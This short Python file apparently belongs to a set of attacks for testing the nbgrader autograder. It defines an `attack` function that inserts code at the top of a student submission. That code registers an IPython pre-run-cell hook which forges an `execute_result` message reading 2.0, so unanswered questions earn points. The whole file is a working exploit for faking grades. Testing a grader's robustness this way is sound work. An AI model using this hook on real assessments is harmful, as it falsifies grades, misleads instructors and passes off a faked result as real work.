"""A hook before each cell publishes a result of 2.0; nbgrader reads the first result as points.

Success: the attack earns points in any question without an answer.
"""


def attack(submission):
    submission.first("""
        def publish(*information):
            kernel = get_ipython().kernel
            content = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
            kernel.session.send(kernel.iopub_socket, "execute_result", content,
                                parent=kernel.get_parent("shell"), ident=b"execute_result")

        get_ipython().events.register("pre_run_cell", publish)
    """)
